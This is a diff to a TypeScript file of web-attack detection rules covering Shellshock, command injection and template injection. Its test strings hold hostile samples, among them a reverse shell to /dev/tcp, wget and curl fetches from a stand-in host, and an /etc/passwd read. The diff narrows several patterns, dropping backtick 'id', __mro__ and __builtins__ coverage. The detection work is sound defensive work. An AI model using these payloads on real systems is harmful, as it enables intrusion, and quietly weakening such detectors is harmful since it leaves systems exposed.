@@ -44,7 +44,7 @@ export const codeExecution: readonly Detector[] = [
     severity: 'critical',
     summary: 'Functions in environment variables that run commands',
     source: 'CVE-2014-6271',
-    pattern: '\\(\\)\\s{0,4}\\{\\s{0,4}(?::|_|[a-z]{0,8})?;?\\s{0,4}\\}\\s{0,4};[^\\r\\n"]{1,200}',
+    pattern: '\\(\\)\\s{0,4}\\{\\s{0,4}(?::|_|[a-z]{1,8});\\s{0,4}\\}\\s{0,4};[^\\r\\n"]{1,200}',
     anchors: ['\\(\\) \\{', '\\(\\)\\{'],
     yes: [
       'User-Agent: «() { :; }; /bin/id»',
@@ -64,7 +64,7 @@ export const codeExecution: readonly Detector[] = [
     pattern:
       `(?i:(?:;|%3b|\\||%7c|&&|%26%26|\\$\\(|%24%28|\\x60|%60)${B}{0,3}(?:cat${B}+/etc|wget${B}+https` +
       `?|curl${B}+(?:-[a-z]+${B}+)?https?|nc${B}+-|bash${B}+-[ic]|sh${B}+-c` +
-      `|whoami|uname${B}+-a|id(?:;|\\)|%29|\\x60|%60)|ping${B}+-[cn]|powershell)` +
+      `|whoami|uname${B}+-a|id(?:;|\\)|%29)|ping${B}+-[cn]|powershell)` +
       `|/dev/tcp/[0-9a-z.-]{3,60}/[0-9]{1,5}|\\$\\{ifs\\}|nc${B}+(?:-[a-z]+${B}+)*-e${B}+/bin|/bin/(?:ba)?sh${B}+-i)`,
     anchors: [
       '(?i)cat /etc',
@@ -86,8 +86,7 @@ export const codeExecution: readonly Detector[] = [
       '(?i)uname -',
       '(?i)uname+-',
       '(?i)uname%20',
-      '(?i)[;(|\\x60]id[;)\\x60]',
-      '(?i)%60id',
+      '(?i)[;(|]id[;)]',
       '(?i)ping -[cn]',
       '(?i)ping+-[cn]',
       '(?i)ping%20-',
@@ -103,7 +102,7 @@ export const codeExecution: readonly Detector[] = [
       'q=«$(curl http»://x.example/a)',
       'bash -i >& «/dev/tcp/10.0.0.5/4444» 0>&1',
       'f=a«;wget+http»://x.example/m.sh',
-      'x«`id`»',
+      'x«`whoami»`',
       'cmd=cat«${IFS}»/etc/passwd',
     ],
     no: [
@@ -151,8 +150,8 @@ export const codeExecution: readonly Detector[] = [
     source: 'CWE-1336; PortSwigger, server-side template injection',
     pattern:
       '(?:\\{\\{|\\$\\{|#\\{|<%=|\\*\\{|%7B%7B' +
-      '|%24%7B)\\s{0,4}[0-9]{1,7}\\s{0,2}\\*\\s{0,2}[\'"]?[0-9]{1,7}|__(?:subclasses|globals|mro' +
-      '|builtins)__|freemarker\\.template\\.utility\\.Execute|T\\(java\\.lang\\.(?:Runtime' +
+      '|%24%7B)\\s{0,4}[0-9]{1,7}\\s{0,2}\\*\\s{0,2}[\'"]?[0-9]{1,7}|__(?:subclasses|globals)__' +
+      '|freemarker\\.template\\.utility\\.Execute|T\\(java\\.lang\\.(?:Runtime' +
       '|ProcessBuilder)\\)' +
       '|@java\\.lang\\.Runtime@getRuntime|class\\.module\\.classLoader|#_memberAccess|ognl\\.OgnlContext',
     anchors: [
@@ -166,8 +165,6 @@ export const codeExecution: readonly Detector[] = [
       '%24%7B\\d',
       '__subcla',
       '__global',
-      '__mro__',
-      '__builti',
       'y\\.Execute',
       'T\\(java\\.',
       '@java\\.la',
